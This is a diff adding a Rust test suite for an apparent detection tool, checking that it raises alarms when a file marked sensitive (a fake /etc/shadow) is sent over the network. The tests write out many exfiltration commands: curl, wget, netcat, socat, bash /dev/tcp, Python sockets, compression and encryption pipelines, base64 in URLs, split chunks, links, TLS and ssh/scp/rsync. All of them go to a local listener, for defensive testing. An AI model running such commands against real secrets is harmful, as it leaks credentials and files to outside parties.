@@ -1,0 +1,216 @@
+//! A sensitive file is read and leaves (issue 4, items 1 and 2): by every way that people take, found with the right
+//! file, program, destination and confidence.
+
+use counterfoil_tests::sink::Sink;
+use counterfoil_tests::sshd::Sshd;
+use counterfoil_tests::{Alarm, Observed, Run, Scratch, check, need, need_sshd, peers};
+
+/// As /etc/shadow looks on a small host.
+const SHADOW: &str = "root:$6$Vq0bnmQx1c7aK2yZ$0p9Jt1mNf3sXWq8dEoLhU5rGzKcYv7b2TnAi4Hs6QwMxRjPkZ1eDfVgBhNyCuIo:19700:0:99999:7:::\n\
+    ann:$6$hT4kLw92mXpQz8Rv$Yc3nVb7KjH1gFdSaQ0wEr5TyUiOp9LkMn6BvCx2Zs4XdEw8RfTgYhJuIkOlPm3Qa:19811:0:99999:7:::\n";
+
+/// `commands`, with `secret/shadow` to leak, of which the configuration says that it is sensitive.
+fn with_secret(scratch: Scratch, commands: &str) -> Observed {
+    let here = scratch.path().canonicalize().expect("scratch").display().to_string();
+    scratch.write("secret/shadow", SHADOW);
+    let config = format!("[egress]\n[[egress.sensitive]]\npath = \"{here}/secret/*\"\nlabel = \"hashes\"\n");
+    let config = scratch.write("egress.toml", config).display().to_string();
+    let mut session = Observed::script(commands).option("--config").option(config);
+    session.scratch = scratch;
+    session
+}
+
+/// Runs `commands`, in which `$P` is the port of somebody who listens to everything.
+fn leaking(commands: &str) -> Run {
+    let sink = Sink::start();
+    with_secret(Scratch::new(), commands).env("P", sink.port().to_string()).limit(120).go().well()
+}
+
+fn leaks(run: &Run) -> Vec<Alarm> {
+    run.report.alarms().into_iter().filter(|a| a.rule() == "sensitive-egress").collect()
+}
+
+fn exe(alarm: &Alarm) -> &str {
+    alarm.0["process"]["exe"].as_str().unwrap_or("").rsplit('/').next().unwrap_or("")
+}
+
+/// The file left through `program`, that certainly.
+fn left(run: &Run, program: &str, confidence: &str) -> Alarm {
+    let found = leaks(run);
+    let from = |a: &&Alarm| exe(a).starts_with(program);
+    // An alarm is told again when more is known.
+    let alarm = found.iter().rfind(from).filter(|a| a.0["confidence"] == confidence);
+    let all: Vec<_> = found.iter().map(|a| (exe(a).to_owned(), a.0["confidence"].to_string())).collect();
+    check!(run, alarm.is_some(), "no {confidence} sensitive-egress by {program}, but {all:?}");
+    let alarm = alarm.expect("checked").clone();
+    let path = run.scratch.path().canonicalize().expect("scratch").join("secret/shadow");
+    check!(run, alarm.0["file"]["path"] == path.to_string_lossy().as_ref(), "{}", alarm.0["file"]);
+    check!(run, alarm.0["file"]["label"] == "hashes", "{}", alarm.0["file"]);
+    check!(run, alarm.0["analytic"] == "AN0989" && alarm.0["technique"] == "T1041", "{}", alarm.0);
+    let severity = if confidence == "proven" { "critical" } else { "high" };
+    check!(run, alarm.0["severity"] == severity, "{}", alarm.0["severity"]);
+    check!(run, alarm.0["connection"]["remote"].is_string(), "{}", alarm.0["connection"]);
+    let chain = alarm.0["evidence"]["chain"].as_array().cloned().unwrap_or_default();
+    check!(run, chain.last().is_some_and(|s| s["did"] == "sent"), "{}", alarm.0["evidence"]);
+    alarm
+}
+
+/// The programs of the chain, in order, without repeats.
+fn chain(alarm: &Alarm) -> Vec<String> {
+    let steps = alarm.0["evidence"]["chain"].as_array().cloned().unwrap_or_default();
+    let name =
+        |v: &serde_json::Value| v["exe"].as_str().unwrap_or("").rsplit('/').next().unwrap_or("").to_owned();
+    let mut names: Vec<String> = steps.iter().flat_map(|s| [name(&s["process"]), name(&s["to"])]).collect();
+    names.retain(|n| !n.is_empty());
+    names.dedup();
+    names
+}
+
+#[test]
+fn curl() {
+    need!("curl");
+    for way in
+        ["-T secret/shadow", "--data-binary @secret/shadow", "-d @secret/shadow", "-F f=@secret/shadow"]
+    {
+        let run = leaking(&format!("curl -sS {way} http://127.0.0.1:$P/up >/dev/null"));
+        let alarm = left(&run, "curl", "correlated");
+        assert_eq!(chain(&alarm), ["curl"]);
+    }
+}
+
+#[test]
+fn wget() {
+    need!("wget");
+    left(
+        &leaking("wget -q -O /dev/null --post-file=secret/shadow http://127.0.0.1:$P/"),
+        "wget",
+        "correlated",
+    );
+}
+
+#[test]
+fn netcat() {
+    need!("nc");
+    left(&leaking("nc -N 127.0.0.1 $P <secret/shadow"), "nc", "proven");
+    let run = leaking("cat secret/shadow | nc -N 127.0.0.1 $P");
+    let alarm = left(&run, "nc", "proven");
+    assert_eq!(alarm.0["evidence"]["spans"][0]["length"], SHADOW.len());
+}
+
+#[test]
+fn socat() {
+    need!("socat");
+    left(&leaking("socat -u OPEN:secret/shadow TCP:127.0.0.1:$P"), "socat", "proven");
+}
+
+#[test]
+fn bash_dev_tcp() {
+    need!("bash");
+    left(&leaking("bash -c 'cat secret/shadow >/dev/tcp/127.0.0.1/$P'"), "cat", "proven");
+    left(
+        &leaking(
+            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/$P; while read -r line; do echo \"$line\" >&3; done <secret/shadow'",
+        ),
+        "bash",
+        "correlated",
+    );
+}
+
+#[test]
+fn python() {
+    let python = peers::PYTHON;
+    need!("/usr/bin/python3");
+    for code in [
+        "import urllib.request as u; u.urlopen(\"http://127.0.0.1:$P/\", open(\"secret/shadow\",\"rb\").read())",
+        // The connection is older than the reading.
+        "import socket; s=socket.create_connection((\"127.0.0.1\",$P)); s.sendall(b\"hello\\\\n\"); d=open(\"secret/shadow\",\"rb\").read(); s.sendall(b\"x\"+d)",
+        // It forks between reading and sending.
+        "import socket,os; d=open(\"secret/shadow\",\"rb\").read(); p=os.fork(); s=p or socket.create_connection((\"127.0.0.1\",$P)); p or s.sendall(b\"x\"+d); p and os.wait()",
+    ] {
+        left(&leaking(&format!("{python} -c \"{}\"", code.replace('"', "\\\""))), "python3", "correlated");
+    }
+}
+
+#[test]
+fn through_pipes_and_programs() {
+    need!("gzip", "openssl", "base64", "nc", "curl");
+    let run = leaking("tar c secret | gzip | nc -N 127.0.0.1 $P");
+    assert_eq!(chain(&left(&run, "nc", "correlated")), ["tar", "gzip", "nc.openbsd"]);
+    let run = leaking("openssl enc -aes-256-cbc -pbkdf2 -k x -in secret/shadow | nc -N 127.0.0.1 $P");
+    assert_eq!(chain(&left(&run, "nc", "correlated")), ["openssl", "nc.openbsd"]);
+    // What a child prints its parent puts on another child's command line.
+    let run = leaking("curl -sS \"http://127.0.0.1:$P/$(base64 -w0 secret/shadow)\" >/dev/null");
+    let alarm = left(&run, "curl", "correlated");
+    assert_eq!(chain(&alarm)[0], "base64");
+}
+
+#[test]
+fn through_files() {
+    need!("curl", "gzip", "split");
+    let run = leaking("gzip -c secret/shadow >packed; curl -sS -T packed http://127.0.0.1:$P/ >/dev/null");
+    assert_eq!(chain(&left(&run, "curl", "correlated")), ["gzip", "curl"]);
+    let run = leaking("cp secret/shadow copy; mv copy other; nc -N 127.0.0.1 $P <other");
+    left(&run, "nc", "proven");
+    let run = leaking(
+        "split -b 60 secret/shadow piece; for p in piece*; do curl -sS -T $p http://127.0.0.1:$P/ >/dev/null; done",
+    );
+    left(&run, "curl", "correlated");
+}
+
+#[test]
+fn other_names_of_it() {
+    need!("curl");
+    let run = leaking("ln secret/shadow other; curl -sS -T other http://127.0.0.1:$P/ >/dev/null");
+    left(&run, "curl", "correlated");
+    let run = leaking("ln -s secret/shadow other; curl -sS -T other http://127.0.0.1:$P/ >/dev/null");
+    left(&run, "curl", "correlated");
+}
+
+#[test]
+fn over_tls() {
+    need!("openssl");
+    let scratch = Scratch::new();
+    peers::certificate(&scratch);
+    let port = peers::free_port();
+    let commands = format!(
+        "mkfifo hold\nopenssl s_server -accept 127.0.0.1:{port} -cert cert.pem -key key.pem -quiet -naccept 1 <hold >got & server=$!\n\
+         exec 9>hold\nlistening {port}\n\
+         cat secret/shadow | openssl s_client -connect 127.0.0.1:{port} -quiet -no_ign_eof -nocommands >/dev/null 2>&1\nwait $server"
+    );
+    let run = with_secret(scratch, &commands).go();
+    left(&run, "openssl", "proven");
+}
+
+#[test]
+fn over_ssh() {
+    need_sshd!();
+    let to = |commands: &str| {
+        let scratch = Scratch::new();
+        let script = Sshd::new(&scratch).around(commands);
+        with_secret(scratch, &script).limit(120).go().well()
+    };
+    left(&to("scp secret/shadow far:$here/got"), "ssh", "correlated");
+    left(&to("printf 'put secret/shadow got\\n' | sftp -q -b - far:$here >/dev/null"), "ssh", "correlated");
+    left(&to("ssh far 'cat >got' <secret/shadow"), "ssh", "proven");
+    left(&to("tar c secret | ssh far 'cat >got'"), "ssh", "correlated");
+    if peers::find("rsync").is_some() {
+        left(&to("rsync -a secret/shadow far:$here/got"), "ssh", "correlated");
+    }
+}
+
+/// Who reads it for its work, who asks for something else, who only serves.
+#[test]
+fn nothing_of_all_this() {
+    need!("curl", "nc");
+    let quiet = |commands: &str| {
+        let run = leaking(commands);
+        let alarms = leaks(&run);
+        check!(run, alarms.is_empty(), "{alarms:#?}");
+    };
+    // Sent before it was read, and by others.
+    quiet("curl -sS http://127.0.0.1:$P/ >/dev/null; cat secret/shadow >/dev/null");
+    // Nothing but other files.
+    quiet(
+        "echo hello >file; curl -sS -T file http://127.0.0.1:$P/ >/dev/null; stat secret/shadow >/dev/null",
+    );
+}
